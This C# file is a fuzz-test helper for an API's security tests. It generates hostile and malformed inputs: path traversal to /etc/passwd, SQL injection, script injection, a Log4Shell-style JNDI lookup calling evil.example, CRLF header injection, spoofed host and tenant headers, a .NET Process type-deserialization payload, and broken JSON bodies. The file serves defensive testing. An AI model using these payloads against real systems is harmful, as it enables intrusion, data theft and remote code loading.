namespace OnNara.Api.Tests.Security;

/// <summary>What somebody sends who means ill, or whose program is broken.</summary>
internal static class Hostile
{
    private static readonly string Megabyte = new('가', 350_000);

    private static readonly string[] Texts =
    [
        "", " ", "\t\r\n", "\u202e\u2066txt.exe\u2069", "\u200b\ufeff", "\uffff", "👨‍👩‍👧‍👦", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
        "'; drop table people; --", "\" or \"\"=\"", "%' or 1=1 --", "\\", "%", "_", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{0}", "%s%n",
        "a\r\nSet-Cookie: onnara=1", "-1", "NaN", "Infinity", "true", "null", "undefined", "00000000-0000-0000-0000-000000000000", "{0198c6f2-7a00-7000-8000-00000000dead}",
        "0001-01-01", "9999-12-31", "2026-02-30", "10000-01-01", "-0001-01-01", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59.9999999-14:00", "2026-10-02T14:30:00", "2026-10-02T24:00:00Z",
        "infinity", "-infinity", "999999999999999999999999", "1e400", "0x7f", "١٢٣", "ｆｕｌｌ", new string('a', 5_000), new string('\'', 300),
    ];

    private static readonly string[] JsonOnly =
    [
        "\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\ud83d\"", "null", "true", "[]", "{}", "[null]", "[[]]", "{\"\":{}}", "0", "-0", "-1", "1.5", "2147483647", "2147483648",
        "-2147483648", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e400", "1e-400", "123456789012345678901234567890", Nested(25), Nested(5_000), $"\"{Megabyte}\"",
        "[" + string.Join(',', Enumerable.Repeat("\"x\"", 20_000)) + "]", "{\"type\":\"table\",\"rows\":[]}", "{\"$type\":\"System.Diagnostics.Process\"}",
    ];

    private static readonly string[] EncodedOnly =
    [
        "%00", "a%00b", "%ED%A0%80", "%FF%FE", "%C0%AF", "%", "%zz", "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f", "..;/", "%E2%80%AE", "%0d%0aX-Made-Up:%201", "a&limit=1&limit=2", "a#b", "%F0%9F%98%80",
    ];

    /// <summary>Headers that tell of something that is not so; none of them may change what is answered to whom.</summary>
    private static readonly (string Name, string Value)[] Headers =
    [
        ("Idempotency-Key", new string('k', 101)), ("Idempotency-Key", "한글"), ("Idempotency-Key", ""), ("Occurred-At", "0001-01-01T00:00:00+14:00"), ("Occurred-At", "9999-12-31T23:59:59-14:00"),
        ("Occurred-At", "yesterday"), ("Occurred-As", "%"), ("Occurred-As", "%00"), ("Occurred-As", "%ED%A0%80"), ("Occurred-Case", new string('a', 4_000)), ("Occurred-Instance", "%FF"),
        ("X-HTTP-Method-Override", "DELETE"), ("X-Original-URL", "/api/agencies"), ("X-Rewrite-URL", "/api/agencies"), ("X-Forwarded-For", "127.0.0.1, ::1"), ("X-Forwarded-Proto", "https"),
        ("X-Forwarded-Host", "evil.example"), ("Forwarded", "for=127.0.0.1;host=evil.example"), ("Host", "evil.example"), ("tenant-id", "{other}"), ("X-Tenant-Id", "{other}"), ("agency", "{other}"),
        ("Accept", "text/html"), ("Accept", "*/*;q=0"), ("Accept", "application/"), ("Accept-Language", new string('k', 4_000)), ("Range", "bytes=-1"), ("Range", "bytes=9223372036854775807-"),
        ("If-Range", "\"x\""), ("If-None-Match", "*"), ("Last-Event-ID", "'; drop table people; --"), ("Cookie", "onnara=CfDJ8made-up; onnara=2"), ("Origin", "null"), ("traceparent", "00-zz-zz-zz"),
        ("correlation-id", new string('c', 4_000)), ("user-name", "system"), ("Content-Encoding", "gzip"), ("Content-Digest", "sha-256=:AAAA:"), ("Expect", "200-ok"),
    ];

    /// <summary>A text that is written as JSON is written, or JSON that is no text.</summary>
    public static string Json(Random random) =>
        random.Next(2) == 0 ? System.Text.Json.JsonSerializer.Serialize(Pick(Texts, random)) : Pick(JsonOnly, random);

    /// <summary>As it stands in an address. In a path the server itself refuses a NUL before anybody is asked.</summary>
    public static string Encoded(Random random, bool isInPath)
    {
        var encoded = random.Next(3) > 0 ? Uri.EscapeDataString(Pick(Texts, random)) : Pick(EncodedOnly, random);
        return isInPath ? encoded.Replace("%00", "%01", StringComparison.Ordinal) : encoded;
    }

    public static (string Name, string Value) Header(Random random, string otherAgency)
    {
        var (name, value) = Headers[random.Next(Headers.Length)];
        return (name, value.Replace("{other}", otherAgency, StringComparison.Ordinal));
    }

    /// <summary>Bodies that are no JSON at all.</summary>
    public static byte[] Body(Random random) => random.Next(6) switch
    {
        0 => [],
        1 => [.. "{\"title\":\""u8, 0xFF, 0xFE, .. "\"}"u8],
        2 => System.Text.Encoding.UTF8.GetBytes(Nested(50_000)),
        3 => "{\"a\":1}{\"a\":2}"u8.ToArray(),
        4 => [0xEF, 0xBB, 0xBF, .. "{}"u8],
        _ => "{\"version\":1,\"version\":2"u8.ToArray(),
    };

    private static string Nested(int depth) => new string('[', depth) + new string(']', depth);

    private static string Pick(string[] from, Random random) => from[random.Next(from.Length)];
}
